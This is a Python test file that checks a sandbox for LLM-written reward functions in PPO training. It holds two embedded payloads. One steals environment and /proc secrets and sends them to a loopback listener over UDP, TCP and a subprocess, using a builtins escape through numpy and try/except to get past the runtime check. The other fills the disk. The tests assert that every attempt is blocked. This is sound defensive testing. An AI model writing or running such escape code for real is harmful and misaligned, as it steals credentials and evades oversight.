"""LLM-written rewards that try to get out, trained by the real executor (tiny PPO runs).

The hardening review's attack: a reward reaches builtins through numpy (``np.ma.core.builtins``),
hides behind ``try``/``except`` so it passes the runtime check, and from the PPO training
process sends the environment (a database URL with its password, a token) to a loopback
listener. Here the same reward is trained; the listener must receive nothing and the secrets
must appear nowhere in the run directory.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from langmarl.p2p import IterationRecord, TrainConfig, train_runs
from langmarl.p2p.learner.executor import TRAINING_LIMITS
from langmarl.p2p.reward.validation import check_runtime, check_static
from langmarl.testing.listener import LoopbackListener

TINY = {
    "total_timesteps": 256, "num_steps": 128, "batch_size": 64, "n_epochs": 1, "num_evals": 1,
    "eval_episodes": 2, "max_episode_steps": 50, "record_video": False,
}  # fmt: skip
SECRETS = ("secretpw", "tok-51c2-very-secret")

EXFILTRATING_REWARD = '''
import json, os, socket, subprocess, sys

PORT = {port}
REPORT = {report!r}
TARGET = {target!r}
_state = {{"done": False}}


def _attempt(outcomes, name, action):
    try:
        action()
        outcomes[name] = "sent"
    except Exception as exc:
        outcomes[name] = f"{{type(exc).__name__}}: {{exc}}"[:200]


def _exfiltrate():
    loot = {{"env": dict(os.environ)}}
    for name, pid in (("parent", os.getppid()), ("init", 1)):
        try:
            loot[name] = open(f"/proc/{{pid}}/environ", "rb").read().decode("latin-1")
        except OSError as exc:
            loot[name] = repr(exc)
    blob = json.dumps(loot).encode()
    builtins = np.ma.core.builtins
    raw = builtins.__import__("socket")
    outcomes = {{}}
    udp = lambda: raw.socket(raw.AF_INET, raw.SOCK_DGRAM)
    _attempt(outcomes, "udp", lambda: udp().sendto(blob, ("127.0.0.1", PORT)))
    _attempt(outcomes, "tcp", lambda: socket.create_connection(("127.0.0.1", PORT), 1).send(blob))
    child = ("import socket, sys; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
             ".sendto(sys.stdin.buffer.read(), ('127.0.0.1', %d))" % PORT)
    _attempt(outcomes, "child_udp",
             lambda: subprocess.run([sys.executable, "-c", child], input=blob, check=True))
    _attempt(outcomes, "write_outside", lambda: open(TARGET, "w").write("pwned"))
    _attempt(outcomes, "list_tmp", lambda: os.listdir("/tmp"))
    if REPORT:
        with open(REPORT, "w") as handle:
            json.dump({{"outcomes": outcomes, "loot": loot}}, handle)


def reward_fn(obs, action, next_obs, info):
    """Keep the pole upright.
    LaTeX: r = 1 - |\\\\theta|
    Terms:
        upright: one minus the pole angle
    """
    if not _state["done"]:
        _state["done"] = True
        try:
            _exfiltrate()
        except Exception:
            pass
    up = 1.0 - abs(float(next_obs[1]))
    return up, {{"upright": up}}
'''


@pytest.fixture
def secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABASE_URL", f"postgres://u:{SECRETS[0]}@db.internal:5432/prod")
    monkeypatch.setenv("TOKEN", SECRETS[1])


@pytest.fixture
def listener() -> Iterator[LoopbackListener]:
    with LoopbackListener() as server:
        yield server


def _files_holding(root: Path, needles: tuple[str, ...]) -> list[str]:
    hits = []
    for path in root.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            hits += [f"{path}: {n}" for n in needles if n.encode() in data]
    return hits


@pytest.mark.slow
def test_training_a_reward_that_exfiltrates_leaks_nothing(
    tmp_path: Path, secrets: None, listener: LoopbackListener
) -> None:
    port = listener.port
    iteration = IterationRecord(tmp_path / "iter_1")
    report = iteration.path / "escape_report.json"  # the run dir: the reward may write there
    target = tmp_path / "outside" / "escaped.txt"
    target.parent.mkdir()
    reward = tmp_path / "reward_fn.py"
    reward.write_text(EXFILTRATING_REWARD.format(port=port, report=str(report), target=str(target)))
    config = TrainConfig.for_env("InvertedPendulum-v5", **TINY)
    aggregation = train_runs(iteration, reward, [config], [1], timeout_s=200)
    assert aggregation.errors == {}, aggregation.errors  # the attack did not stop training
    assert listener.received() == []
    escape = json.loads(report.read_text())  # the reward ran, inside the confinement
    outcomes = escape["outcomes"]
    assert "network_blocked" in outcomes["udp"] and outcomes["tcp"].startswith("PermissionError")
    assert outcomes["child_udp"].startswith("CalledProcessError")  # seccomp/netns, no hook there
    assert not {"DATABASE_URL", "TOKEN"} & set(escape["loot"]["env"])
    assert "PermissionError" in escape["loot"]["init"]
    assert "PermissionError" in escape["loot"]["parent"]
    # confined to the run dir: no host file written, /tmp not even listable
    assert outcomes["write_outside"].startswith("PermissionError") and not target.exists()
    assert outcomes["list_tmp"].startswith("PermissionError")
    assert _files_holding(tmp_path, SECRETS) == []


@pytest.mark.slow
def test_a_reward_hiding_behind_try_except_passes_the_runtime_check_but_gets_nothing_out(
    secrets: None, listener: LoopbackListener
) -> None:
    """The runtime check cannot see the attack (it is swallowed) - and need not: the check
    and training both run it confined. The static check does refuse it."""
    port = listener.port
    source = EXFILTRATING_REWARD.format(port=port, report="", target="/nonexistent/x")
    static = check_static(source)
    assert static.stage == "imports" and "`np.ma.core.builtins` is not allowed" in static.message()
    runtime = check_runtime(source, "InvertedPendulum-v5", steps=10)
    assert runtime.ok, runtime.errors
    assert listener.received() == []


DISK_FILLING_REWARD = '''
import os

REPORT = {report!r}
_state = {{"done": False}}


def reward_fn(obs, action, next_obs, info):
    """Fill the disk once.
    LaTeX: r = 1
    Terms:
        one: constant
    """
    if not _state["done"]:
        _state["done"] = True
        written = 0
        try:
            for index in range(64):
                with open(REPORT + f".fill{{index}}", "wb", buffering=0) as handle:
                    for _ in range(8):
                        written += handle.write(b"x" * (1 << 20))
        except OSError as exc:
            error = exc.strerror
        for index in range(64):
            try:
                os.remove(REPORT + f".fill{{index}}")
            except OSError:
                pass
        with open(REPORT, "w") as handle:
            handle.write(f"{{written}} {{error}}")
    return 1.0, {{"one": 1.0}}
'''


@pytest.mark.slow
def test_a_reward_cannot_fill_the_real_disk(tmp_path: Path) -> None:
    iteration = IterationRecord(tmp_path / "iter_1")
    report = iteration.path / "disk_report.txt"
    reward = tmp_path / "reward_fn.py"
    reward.write_text(DISK_FILLING_REWARD.format(report=str(report)))
    limits = TRAINING_LIMITS.model_copy(update={"max_disk_mb": 32})
    config = TrainConfig.for_env("InvertedPendulum-v5", **TINY)
    aggregation = train_runs(iteration, reward, [config], [1], timeout_s=200, limits=limits)
    on_disk = sum(p.stat().st_size for p in iteration.path.rglob("*") if p.is_file())
    log = (iteration.path / "executor.log").stat().st_size
    assert on_disk - log <= 32 * 1024 * 1024, on_disk
    if aggregation.errors:  # a periodic copy caught the fill: the copy budget ran out
        assert "disk_limit" in str(aggregation.errors), aggregation.errors
    else:  # the reward hit the end of its tmpfs, cleaned up, and training went on
        written, error = report.read_text().split(" ", 1)
        assert 16 * 1024 * 1024 < int(written) <= 32 * 1024 * 1024
        assert error == "No space left on device"
